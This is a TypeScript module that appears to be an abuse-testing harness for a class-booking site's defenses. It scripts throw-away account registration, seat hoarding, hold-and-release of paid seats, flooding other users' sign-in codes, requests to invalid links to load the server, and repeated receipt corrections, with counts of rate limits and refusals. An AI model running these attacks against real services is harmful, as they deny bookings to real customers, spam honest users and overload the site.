import { randomBytes } from 'node:crypto'
import { setTimeout as pause } from 'node:timers/promises'
import { Client } from './client.ts'

export const ATTACKS = ['take free spots', 'hold paid spots', 'end sign-in codes', 'shut link pages', 'multiply receipts'] as const
export type Attack = (typeof ATTACKS)[number]

/** Counts of an attack: accounts, requests, successes, rate limits, refusals and failures. */
export type Tally = { accounts: number; asked: number; got: number; limited: number; refused: number; failed: number }

export type Target = { address: string; paidClasses: number[]; freeClasses: number[]; honestEmails: string[]; end: number }

// The maximum number of requests by one account.
const MAX_REQUESTS = 300
const PAUSE_MS = 700
const nonce = () => randomBytes(32).toString('base64url')
const oneOf = <Value>(values: Value[]): Value => values[Math.floor(Math.random() * values.length)] as Value

/** Registers a throw-away account with an unproven address, then repeats one attack until the end. */
export async function attack(kind: Attack, number: number, networks: number, target: Target, tally: Tally): Promise<void> {
  const client = new Client(target.address, `198.51.100.${(number % networks) + 1}`)
  const isOn = () => Date.now() < target.end && client.requests < MAX_REQUESTS
  const act = acts[kind](client, target, tally)
  const isSignedIn = await register(client, `attacker-${number}@example.net`, isOn)
  if (isSignedIn) tally.accounts += 1
  while (isOn()) {
    await act().catch(() => {
      tally.failed += 1
    })
    await pause(PAUSE_MS * (0.5 + Math.random()))
  }
}

async function register(client: Client, email: string, isOn: () => boolean): Promise<boolean> {
  while (isOn()) {
    const { status, body, retryAfter } = await client.api('/auth/register/', { email, passwordless: true, first_name: 'Eva' })
    if (status === 201) client.token = (body.tokens as { access: string }).access
    if (status !== 429) return status === 201
    await pause(Math.min(retryAfter, 5) * 1000 + 200)
  }
  return false
}

type Act = () => Promise<void>

/** Counts an answer. Returns whether the attack succeeded. */
function count(tally: Tally, status: number): boolean {
  tally.asked += 1
  const isDone = status >= 200 && status < 400
  if (isDone) tally.got += 1
  else if (status === 429) tally.limited += 1
  else if (status >= 500) tally.failed += 1
  else tally.refused += 1
  return isDone
}

const hold = async (client: Client, session_id: number) => client.api('/sandbox/group-session/create-checkout/', { session_id })

const acts: Record<Attack, (client: Client, target: Target, tally: Tally) => Act> = {
  'take free spots':
    (client, { freeClasses }, tally) =>
    async () => {
      count(tally, (await hold(client, oneOf(freeClasses))).status)
    },

  // Holds, releases and holds again, so that the seat is never free for long.
  'hold paid spots': (client, { paidClasses }, tally) => {
    let wanted = oneOf(paidClasses)
    return async () => {
      const { status, body } = await hold(client, wanted)
      if (count(tally, status)) await client.api(`/session-registrations/${body.booking_id}/`, undefined, 'DELETE')
      else wanted = oneOf(paidClasses)
      if (Math.random() < 0.3) await hold(client, wanted)
    }
  },

  'end sign-in codes':
    (client, { honestEmails }, tally) =>
    async () => {
      const email = oneOf(honestEmails)
      const mine = nonce()
      count(tally, (await client.api('/auth/code/', { email, nonce: mine })).status)
      await client.api('/auth/code/confirm/', { email, nonce: mine, code: '000000' })
    },

  'shut link pages': (client, _target, tally) => async () => {
    for (const page of linkPages()) {
      const { status } = await client.page(page)
      // 404 is the expected response to an invalid link, so it counts as a success.
      count(tally, status === 404 ? 200 : status)
    }
  },

  'multiply receipts': (client, { paidClasses }, tally) => {
    let receipt: number | undefined
    return async () => {
      receipt ??= await payAndFindReceipt(client, paidClasses)
      if (receipt === undefined) return
      const buyer = { name: `Firma ${tally.asked} s.r.o.`, address: 'Dlouhá 1, Praha', company_number: '27074358' }
      const { status, body } = await client.api(`/receipts/${receipt}/correction/`, { buyer })
      if (count(tally, status)) receipt = Number(body.id)
    }
  },
}

/** Returns paths of invalid links. Requests for them cost the site as much as requests for valid links. */
export const linkPages = (): string[] => {
  const token = `${Math.ceil(Math.random() * 9999)}-${'x'.repeat(43)}`
  return [`/change/${token}`, `/pay/${token}`, `/withdraw/${token}`, '/voucher/TICHA-0000-0000-0001']
}

async function payAndFindReceipt(client: Client, paidClasses: number[]): Promise<number | undefined> {
  const held = await hold(client, oneOf(paidClasses))
  if (held.status === 200) {
    const page = String(held.body.checkout_url).split('/').at(-1)
    await client.api(`/sandbox/sessions/${page}/pay/`, {})
  }
  const { body } = await client.api('/receipts/')
  const [first] = (body.list ?? []) as { id: number; payment_id: number; kind: string; corrected_by: string | null }[]
  return first?.id
}
